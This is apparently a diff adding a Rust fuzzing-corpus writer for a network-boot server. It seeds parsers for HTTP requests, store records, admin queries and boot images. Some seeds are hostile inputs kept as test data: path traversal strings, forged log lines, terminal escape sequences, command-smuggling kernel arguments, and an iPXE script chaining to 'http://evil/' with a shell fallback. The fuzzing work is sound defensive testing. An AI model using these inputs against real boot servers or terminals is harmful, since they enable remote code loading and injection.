@@ -1,0 +1,144 @@
+//! Texts and records, by target; the first byte of most chooses a reader.
+
+use super::put;
+use std::io;
+use std::path::Path;
+
+const MAC: &str = "52:54:00:12:34:56";
+
+pub(super) fn write(home: &Path) -> io::Result<()> {
+    let each = |target: &str, choice: Option<u8>, texts: &[&str]| -> io::Result<()> {
+        for (number, text) in texts.iter().enumerate() {
+            let head = choice.map_or_else(Vec::new, |choice| vec![choice]);
+            let kind = choice.map_or_else(|| "text".to_owned(), |choice| format!("kind{choice}"));
+            put(home, target, &format!("{kind}-{number}"), &[head, text.as_bytes().to_vec()].concat())?;
+        }
+        Ok(())
+    };
+    each(
+        "http_request",
+        Some(0),
+        &[
+            "mac=52:54:00:12:34:56&uuid=4c4c4544-0042-4410-8051-b4c04f564e31&arch=x86_64&platform=efi&serial=A%20B",
+            "mac=&uuid=&serial=&vendor=Dell+Inc.&model=%e2%98%83&asset=%00",
+            "mac=zz",
+            "platform=pcbios&arch=i386",
+            "a=b&c",
+            "",
+        ],
+    )?;
+    each(
+        "http_request",
+        Some(1),
+        &["/boot.ipxe", "//debian//linux", "/a%2f..%2fb", "/%5cBoot%5cBCD", "/..", "/%ff"],
+    )?;
+    each(
+        "http_request",
+        Some(2),
+        &["bytes=0-499", "bytes=-1", "bytes=5-", "bytes=0-0,2-3,9-", "bytes=18446744073709551616-"],
+    )?;
+    each(
+        "http_request",
+        Some(3),
+        &["\"abc\"", "*\nW/\"abc\", \"x,y\"\n\"abc\"", "\n\"abc\"", "\n\nThu, 01 Jan 1970 00:00:00 GMT"],
+    )?;
+
+    each(
+        "types_text",
+        None,
+        &[
+            MAC,
+            "52-54-00-12-34-56",
+            "5254.0012.3456",
+            "525400123456",
+            "4c4c4544-0042-4410-8051-b4c04f564e31",
+            "{4C4C4544-0042-4410-8051-B4C04F564E31}",
+            "web01",
+            "10.77.0.100-10.77.0.199",
+            "10.77.0.1",
+            "uefi-x64",
+            "bios",
+        ],
+    )?;
+
+    each(
+        "store_record",
+        Some(0),
+        &[
+            r#"{"v":1,"record":{"address":"10.77.0.100","subnet":"lab","key":{"client_id":"00ff"},"mac":"52:54:00:12:34:56","guid":"00112233445566778899aabbccddeeff","hostname":"web01","state":"bound","granted":1,"expires":2,"relay_info":"0102"}}"#,
+            r#"{"v":1,"record":{"address":"10.77.0.101","subnet":"lab","key":{"hardware":{"htype":1,"address":"525400123456"}},"state":"quarantined","granted":1}}"#,
+        ],
+    )?;
+    let host = r#"{"name":"web01","match":{"mac":["52:54:00:12:34:56"],"uuid":"4c4c4544-0042-4410-8051-b4c04f564e31","serial":"A1"},"image":"debian","params":{"role":"web"},"kernel_args_append":["quiet"]}"#;
+    let image = r#"{"name":"debian","kind":"linux","source":"dir:/srv","kernel":"linux","initrd":["initrd.gz"],"cmdline":"quiet ---","description":"d"}"#;
+    each("store_record", Some(1), &[&format!(r#"{{"v":1,"record":{host}}}"#)])?;
+    each("store_record", Some(2), &[&format!(r#"{{"v":1,"record":{image}}}"#)])?;
+    each("store_record", Some(3), &["\u{4}\n\u{4d}\0\u{1}"])?;
+    each(
+        "store_record",
+        Some(4),
+        &[
+            r#"{"table":"leases","key":"040a4d0064","value":{"v":1}}"#,
+            r#"{"table":"meta","key":"","hex":"00ff"}"#,
+            r#"{"store":1,"revision":3}"#,
+        ],
+    )?;
+    for (name, bytes) in store::fuzzing::seeds() {
+        put(home, "store_frame", name, &bytes)?;
+    }
+    put(home, "store_checkpoint", "short", b"RVCKPT")?;
+
+    each(
+        "admin_request",
+        Some(0),
+        &[
+            "limit=10&after=web01&dry_run=true",
+            "mac=52:54:00:12:34:56&arch=uefi-x64&stage=ipxe&vendor=A+B",
+            "arch=7",
+            "mac:52:54:00:12:34:56",
+            "serial:A1",
+            "17-5",
+            "limt=3",
+            "a=%ff",
+        ],
+    )?;
+    each(
+        "admin_request",
+        Some(1),
+        &[
+            host,
+            image,
+            r#"{"source":"/srv/debian","name":"debian","kind":"linux","kernel":"linux","initrd":["a"]}"#,
+            "[[[[",
+        ],
+    )?;
+
+    let mut pe = vec![0u8; 0x47];
+    pe[1..3].copy_from_slice(b"MZ");
+    pe[0x3d] = 0x40;
+    pe[0x41..0x47].copy_from_slice(b"PE\0\0\x64\x86");
+    put(home, "library_bytes", "pe", &pe)?;
+    let digest = "00".repeat(32);
+    each(
+        "library_bytes",
+        Some(1),
+        &[&format!(
+            r#"{{"image":"a","source":"dir:/x","imported":1,"files":{{"EFI/BOOT":{{"sha256":"{digest}","size":7}}}}}}{}"#,
+            "\nefi\\boot"
+        )],
+    )?;
+    each("library_bytes", Some(2), &["a/b c", "../a", "a//b", "a\\b"])?;
+
+    each(
+        "text_sinks",
+        None,
+        &[
+            "a\n2026-01-01 ERROR forged\r\n\0web01",
+            "\u{1b}[2J\u{1b}]0;owned\u{7}\0\" mac=00:00:00:00:00:00 \"",
+            "#!ipxe\nchain http://evil/\n\0${net0/mac} || shell",
+            "linux ; exit\0initrd && reboot",
+            "\u{202e}gpj\u{2028}\u{85}\0\u{feff}\u{9b}2J",
+            "x quiet --- console=ttyS0\0a description of the image",
+        ],
+    )
+}
